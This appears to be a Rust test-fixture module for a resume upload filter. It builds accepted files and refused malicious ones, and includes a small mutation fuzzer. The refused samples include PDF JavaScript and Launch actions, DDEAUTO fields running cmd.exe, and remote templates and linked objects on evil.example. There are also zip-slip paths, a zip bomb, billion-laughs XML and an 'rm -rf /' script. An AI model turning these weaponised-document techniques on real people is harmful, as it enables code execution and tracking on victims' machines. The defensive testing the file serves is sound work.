//! Files that people might send as their resume: honest ones, and every kind of trick.

use std::io::{Cursor, Write as _};

use zip::{CompressionMethod, ZipWriter, write::SimpleFileOptions};

const WORD: &str =
    "application/vnd.openxmlformats-officedocument.wordprocessingml.document.main+xml";
const BODY: &str = r#"<w:document xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"><w:body><w:p/></w:body></w:document>"#;

/// A one-page PDF, with `extra` among its objects.
pub(crate) fn pdf(extra: &str) -> Vec<u8> {
    let mut out = b"%PDF-1.7\n%\xE2\xE3\xCF\xD3\n".to_vec();
    let objects = [
        "<< /Type /Catalog /Pages 2 0 R >>".to_owned(),
        "<< /Type /Pages /Kids [3 0 R] /Count 1 >>".to_owned(),
        format!("<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {extra} >>"),
    ];
    let mut offsets = Vec::new();
    for (number, object) in objects.iter().enumerate() {
        offsets.push(out.len());
        out.extend(format!("{} 0 obj\n{object}\nendobj\n", number + 1).bytes());
    }
    let table = out.len();
    out.extend(format!("xref\n0 {}\n0000000000 65535 f \n", offsets.len() + 1).bytes());
    for offset in &offsets {
        out.extend(format!("{offset:010} 00000 n \n").bytes());
    }
    let size = offsets.len() + 1;
    out.extend(
        format!("trailer\n<< /Size {size} /Root 1 0 R >>\nstartxref\n{table}\n%%EOF\n").bytes(),
    );
    out
}

/// A PDF with these objects in a packed stream.
pub(crate) fn packed_pdf(objects: &str, filter: &str) -> Vec<u8> {
    let mut packer = flate2::write::ZlibEncoder::new(Vec::new(), flate2::Compression::best());
    packer.write_all(objects.as_bytes()).expect("objects");
    let stream = packer.finish().expect("a stream");
    let mut out = pdf("");
    let mut part = format!(
        "9 0 obj\n<< /Type /#4fbjStm /N 1 /First 4 /Filter {filter} /Length {} >>\nstream\n",
        stream.len()
    )
    .into_bytes();
    part.extend(stream);
    part.extend(b"\nendstream\nendobj\n");
    let at = out
        .windows(5)
        .position(|five| five == b"xref\n")
        .expect("a table");
    out.splice(at..at, part);
    out
}

/// The relationships of a Word document's body.
fn rels(kind: &str, target: &str) -> String {
    format!(
        "<?xml version=\"1.0\" encoding=\"UTF-8\"?><Relationships><Relationship Id=\"r1\" \
         Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}\" \
         Target=\"{target}\" TargetMode=\"External\"/></Relationships>"
    )
}

/// A Word document whose body refers to something outside.
fn linked(kind: &str, target: &str) -> Vec<u8> {
    docx(&[(
        "word/_rels/document.xml.rels",
        rels(kind, target).as_bytes(),
    )])
}

/// A zip of parts.
pub(crate) fn zip(parts: &[(&str, &[u8])]) -> Vec<u8> {
    let mut writer = ZipWriter::new(Cursor::new(Vec::new()));
    let packed = SimpleFileOptions::default().compression_method(CompressionMethod::Deflated);
    for (name, bytes) in parts {
        writer.start_file(*name, packed).expect("a part");
        writer.write_all(bytes).expect("a part");
    }
    writer.finish().expect("a zip").into_inner()
}

fn types(kind: &str) -> String {
    format!(r#"<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>"#)
}

/// A Word document, with `extra` parts.
pub(crate) fn docx(extra: &[(&str, &[u8])]) -> Vec<u8> {
    let types = types(WORD);
    let mut parts: Vec<(&str, &[u8])> = vec![
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", BODY.as_bytes()),
    ];
    parts.extend(extra);
    zip(&parts)
}

/// A compound file with these streams.
pub(crate) fn compound(streams: &[(&str, &[u8])]) -> Vec<u8> {
    let mut file = cfb::CompoundFile::create(Cursor::new(Vec::new())).expect("a compound file");
    for (path, bytes) in streams {
        if let Some((folder, _)) = path
            .rsplit_once('/')
            .filter(|(folder, _)| !folder.is_empty())
        {
            file.create_storage_all(folder).expect("a storage");
        }
        let mut stream = file.create_stream(path).expect("a stream");
        stream.write_all(bytes).expect("a stream");
    }
    file.flush().expect("a compound file");
    file.into_inner().into_inner()
}

/// A Word document of 1997 to 2003.
pub(crate) fn doc() -> Vec<u8> {
    compound(&[
        ("/WordDocument", &[0xEC, 0xA5, 0xC1, 0, 0, 0]),
        ("/1Table", &[0; 64]),
    ])
}

/// A Word document whose body holds this.
pub(crate) fn docx_of(body: &str) -> Vec<u8> {
    let body = format!("<w:document xmlns:w=\"w\"><w:body>{body}</w:body></w:document>");
    let types = types(WORD);
    zip(&[
        ("[Content_Types].xml", types.as_bytes()),
        ("word/document.xml", body.as_bytes()),
    ])
}

/// The two streams of an old Word document with these pieces of text: in two bytes for each sign, or in one.
pub(crate) fn doc_streams(pieces: &[(&str, bool)]) -> (Vec<u8>, Vec<u8>) {
    const TEXT: usize = 0x600;
    let mut document = vec![0_u8; TEXT];
    document[..2].copy_from_slice(&[0xEC, 0xA5]);
    document[0x0A..0x0C].copy_from_slice(&0x0200_u16.to_le_bytes());
    let (mut ends, mut places, mut signs) = (vec![0_u32], Vec::new(), 0);
    for (text, narrow) in pieces {
        let at = u32::try_from(document.len()).expect("a small document");
        if *narrow {
            document.extend(
                text.chars()
                    .map(|sign| u8::try_from(sign as u32).unwrap_or(0x92)),
            );
            places.push((at * 2) | (1 << 30));
        } else {
            document.extend(text.encode_utf16().flat_map(u16::to_le_bytes));
            places.push(at);
        }
        signs += u32::try_from(text.encode_utf16().count()).expect("a short text");
        ends.push(signs);
    }
    document[0x4C..0x50].copy_from_slice(&signs.to_le_bytes());
    let mut plc: Vec<u8> = ends.iter().flat_map(|end| end.to_le_bytes()).collect();
    for place in places {
        plc.extend([0, 0]);
        plc.extend(place.to_le_bytes());
        plc.extend([0, 0]);
    }
    // Two bytes of formats are before the table.
    let mut table = vec![1, 2, 0, 0, 0, 2];
    table.extend(
        u32::try_from(plc.len())
            .expect("a short table")
            .to_le_bytes(),
    );
    table.extend(plc);
    let length = u32::try_from(table.len()).expect("a short table");
    document[0x01A6..0x01AA].copy_from_slice(&length.to_le_bytes());
    (document, table)
}

/// An old Word document with these pieces of text.
pub(crate) fn doc_of(pieces: &[(&str, bool)]) -> Vec<u8> {
    let (document, table) = doc_streams(pieces);
    compound(&[("/WordDocument", &document), ("/1Table", &table)])
}

/// Accepted files, with their usual name and type.
pub(crate) fn sound() -> Vec<(&'static str, Vec<u8>, &'static str)> {
    let word = "application/vnd.openxmlformats-officedocument.wordprocessingml.document";
    vec![
        ("resume.pdf", pdf(""), "application/pdf"),
        (
            "packed.pdf",
            packed_pdf("1 0 << /Type /Font >>", "/FlateDecode"),
            "application/pdf",
        ),
        (
            "links.docx",
            linked("hyperlink", "https://www.linkedin.com/in/maria?a=1&amp;b=2"),
            word,
        ),
        // Word remembers the author's own template.
        (
            "template.docx",
            linked(
                "attachedTemplate",
                "file:///C:\\Users\\Maria\\Templates\\Resume.dotx",
            ),
            word,
        ),
        (
            "fields.docx",
            docx_of(
                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> HYPERLINK \"https://x.example/ADDED\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
            ),
            word,
        ),
        ("resume.doc", doc(), "application/msword"),
        (
            "resume.docx",
            docx(&[("word/styles.xml", b"<w:styles/>")]),
            word,
        ),
    ]
}

/// Refused files, with their kind.
pub(crate) fn refused() -> Vec<(&'static str, &'static str, Vec<u8>)> {
    let macros = types("application/vnd.ms-word.document.macroEnabled.main+xml");
    let zeros = vec![0_u8; 60 * 1024 * 1024];
    let many: Vec<(String, &[u8])> = (0..2_500)
        .map(|at| (format!("word/media/{at}.xml"), &b"x"[..]))
        .collect();
    let many: Vec<(&str, &[u8])> = many
        .iter()
        .map(|(name, bytes)| (name.as_str(), *bytes))
        .collect();
    let bill = r#"<!DOCTYPE d [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><w:document xmlns:w="w">&b;</w:document>"#;
    let ours = types(WORD);
    let mut late = vec![b' '; 10];
    late.extend(pdf(""));
    let mut both = pdf("");
    both.extend(zip(&[("a.txt", b"a")]));
    let mut cut = pdf("");
    cut.truncate(120);
    let mut cut_zip = docx(&[]);
    cut_zip.truncate(200);
    let utf16: Vec<u8> = "\u{feff}<!DOCTYPE d [<!ENTITY a \"ha\">]><w:settings/>"
        .encode_utf16()
        .flat_map(u16::to_le_bytes)
        .collect();
    let mut cut_doc = doc();
    cut_doc.truncate(600);
    vec![
        (
            "a program",
            "resume.pdf",
            b"MZ\x90\0this program cannot be run in DOS mode".to_vec(),
        ),
        (
            "an ELF program",
            "resume.docx",
            b"\x7fELF\x02\x01\x01\0\0\0\0\0\0\0\0\0".to_vec(),
        ),
        (
            "a page",
            "resume.pdf",
            b"<!doctype html><script>alert(1)</script>%PDF-1.7 %%EOF".to_vec(),
        ),
        (
            "a picture",
            "resume.pdf",
            b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR".to_vec(),
        ),
        (
            "an SVG",
            "resume.pdf",
            b"<svg xmlns=\"http://www.w3.org/2000/svg\" onload=\"alert(1)\"/>".to_vec(),
        ),
        (
            "plain text",
            "resume.doc",
            b"Maria Delgado, line cook, 3 years".to_vec(),
        ),
        (
            "rich text",
            "resume.doc",
            b"{\\rtf1\\ansi Maria Delgado}".to_vec(),
        ),
        ("a script", "resume.docx", b"#!/bin/sh\nrm -rf /\n".to_vec()),
        ("nothing but a mark", "resume.pdf", b"%PDF-1.7".to_vec()),
        ("a PDF that begins late", "resume.pdf", late),
        ("a PDF that is cut off", "resume.pdf", cut),
        ("a PDF with a zip behind it", "resume.pdf", both),
        (
            "a PDF with a script",
            "resume.pdf",
            pdf("/AA << /O << /S /JavaScript /JS (app.alert\\(1\\)) >> >>"),
        ),
        (
            "a PDF with a disguised script",
            "resume.pdf",
            pdf("/AA << /O << /S /J#61vaScript >> >>"),
        ),
        (
            "a PDF that starts a program",
            "resume.pdf",
            pdf("/A << /S /Launch /F (cmd.exe) >>"),
        ),
        (
            "a PDF with a file inside",
            "resume.pdf",
            pdf("/Names << /EmbeddedFiles 9 0 R >>"),
        ),
        (
            "an ordinary zip",
            "resume.docx",
            zip(&[("notes.txt", b"hello")]),
        ),
        (
            "a spreadsheet",
            "resume.docx",
            zip(&[
                ("[Content_Types].xml", b"<Types/>"),
                ("xl/workbook.xml", b"<workbook/>"),
            ]),
        ),
        (
            "a Java archive",
            "resume.docx",
            zip(&[("META-INF/MANIFEST.MF", b"Manifest-Version: 1.0")]),
        ),
        (
            "a document with macros",
            "resume.docx",
            docx(&[("word/vbaProject.bin", b"macro")]),
        ),
        (
            "a document of the macro type",
            "resume.docx",
            zip(&[
                ("[Content_Types].xml", macros.as_bytes()),
                ("word/document.xml", BODY.as_bytes()),
            ]),
        ),
        (
            "a document with a control",
            "resume.docx",
            docx(&[("word/activeX/activeX1.bin", b"x")]),
        ),
        (
            "a document with an object",
            "resume.docx",
            docx(&[("word/embeddings/oleObject1.bin", b"x")]),
        ),
        (
            "a document that climbs",
            "resume.docx",
            docx(&[("../../etc/passwd", b"x")]),
        ),
        (
            "a zip bomb",
            "resume.docx",
            docx(&[("word/media/a.bmp", &zeros)]),
        ),
        ("a document of 2,500 parts", "resume.docx", docx(&many)),
        (
            "a billion laughs",
            "resume.docx",
            zip(&[
                ("[Content_Types].xml", ours.as_bytes()),
                ("word/document.xml", bill.as_bytes()),
            ]),
        ),
        ("a document that is cut off", "resume.docx", cut_zip),
        (
            "a document with a template elsewhere",
            "resume.docx",
            linked("attachedTemplate", "https://evil.example/t.dotm"),
        ),
        (
            "a document with a template on another machine",
            "resume.docx",
            linked(
                "attachedTemplate",
                "file:///\\\\evil.example\\share\\t.dotm",
            ),
        ),
        (
            "a document with a picture elsewhere",
            "resume.docx",
            linked("image", "http://evil.example/seen.png"),
        ),
        (
            "a document with a linked object",
            "resume.docx",
            linked("oleObject", "http://evil.example/x.xls"),
        ),
        (
            "a document with a link to a script",
            "resume.docx",
            linked("hyperlink", "javascript:alert(1)"),
        ),
        (
            "a document that starts a program by a field",
            "resume.docx",
            docx_of(
                "<w:r><w:fldChar w:fldCharType=\"begin\"/></w:r><w:r><w:instrText> D&#68;</w:instrText></w:r><w:r><w:instrText>EAUTO c:\\\\cmd.exe \"/k calc\" </w:instrText></w:r><w:r><w:fldChar w:fldCharType=\"end\"/></w:r>",
            ),
        ),
        (
            "a document that starts a program by a simple field",
            "resume.docx",
            docx_of("<w:fldSimple w:instr=\" DDE excel x y \"/>"),
        ),
        (
            "a document with another one inside",
            "resume.docx",
            docx_of("<w:altChunk r:id=\"r1\"/>"),
        ),
        (
            "a document with a part in UTF-16",
            "resume.docx",
            docx(&[("word/settings.xml", &utf16)]),
        ),
        (
            "a document with a part that says it is UTF-16",
            "resume.docx",
            docx(&[(
                "word/settings.xml",
                b"<?xml version=\"1.0\" encoding='UTF-16'?><w:settings/>",
            )]),
        ),
        (
            "a PDF with a packed script",
            "resume.pdf",
            packed_pdf(
                "1 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>",
                "/FlateDecode",
            ),
        ),
        (
            "a PDF with objects packed in an unusual way",
            "resume.pdf",
            packed_pdf(
                "1 0 << /S /JavaScript >>",
                "[ /ASCIIHexDecode /FlateDecode ]",
            ),
        ),
        (
            "an old document that starts a program by a field",
            "resume.doc",
            doc_of(&[("Maria \u{13} DDEAUTO c:\\\\cmd.exe \u{14}x\u{15}", true)]),
        ),
        (
            "an old document that does so in wide letters",
            "resume.doc",
            doc_of(&[(
                "Mar\u{ed}a \u{13} DDEAUTO c:\\\\cmd.exe \u{14}x\u{15}",
                false,
            )]),
        ),
        (
            "a compound file of another kind",
            "resume.doc",
            compound(&[("/Workbook", b"x")]),
        ),
        (
            "an old document with macros",
            "resume.doc",
            compound(&[
                ("/WordDocument", &[0xEC, 0xA5, 0xC1, 0]),
                ("/Macros/VBA/dir", b"x"),
            ]),
        ),
        (
            "an old document without its mark",
            "resume.doc",
            compound(&[("/WordDocument", b"hello")]),
        ),
        ("an old document that is cut off", "resume.doc", cut_doc),
    ]
}

/// A small generator of numbers: the same seed gives the same file.
pub(crate) struct Dice(pub(crate) u64);

impl Dice {
    fn next(&mut self) -> u64 {
        self.0 = self.0.wrapping_add(0x9E37_79B9_7F4A_7C15);
        let mut z = self.0;
        z = (z ^ (z >> 30)).wrapping_mul(0xBF58_476D_1CE4_E5B9);
        z = (z ^ (z >> 27)).wrapping_mul(0x94D0_49BB_1331_11EB);
        z ^ (z >> 31)
    }

    fn below(&mut self, end: usize) -> usize {
        usize::try_from(self.next() % (end.max(1) as u64)).unwrap_or(0)
    }

    /// A file of the corpus with a few bytes changed, cut, doubled or moved.
    pub(crate) fn mutate(&mut self, corpus: &[Vec<u8>]) -> Vec<u8> {
        let mut bytes = corpus[self.below(corpus.len())].clone();
        for _ in 0..=self.below(8) {
            if bytes.is_empty() {
                break;
            }
            let (at, other) = (self.below(bytes.len()), self.below(bytes.len()));
            let (from, to) = (at.min(other), at.max(other));
            match self.below(7) {
                0 => bytes[at] = self.next().to_le_bytes()[0],
                1 => bytes[at] ^= 1 << self.below(8),
                2 => bytes.truncate(at),
                3 => drop(bytes.drain(from..to.min(from + 64))),
                4 => {
                    let part = bytes[from..to.min(from + 64)].to_vec();
                    bytes.splice(at..at, part);
                }
                5 => bytes[at..].iter_mut().take(4).for_each(|byte| *byte = 0xFF),
                _ => {
                    let second = &corpus[self.below(corpus.len())];
                    let tail = self.below(second.len());
                    bytes.truncate(at);
                    bytes.extend(&second[tail..]);
                }
            }
        }
        bytes
    }
}

/// The small files of both lists, to be mutated.
pub(crate) fn corpus() -> Vec<Vec<u8>> {
    let honest = sound().into_iter().map(|(_, bytes, _)| bytes);
    let tricks = refused().into_iter().map(|(_, _, bytes)| bytes);
    honest
        .chain(tricks)
        .filter(|bytes| bytes.len() < 100_000)
        .collect()
}
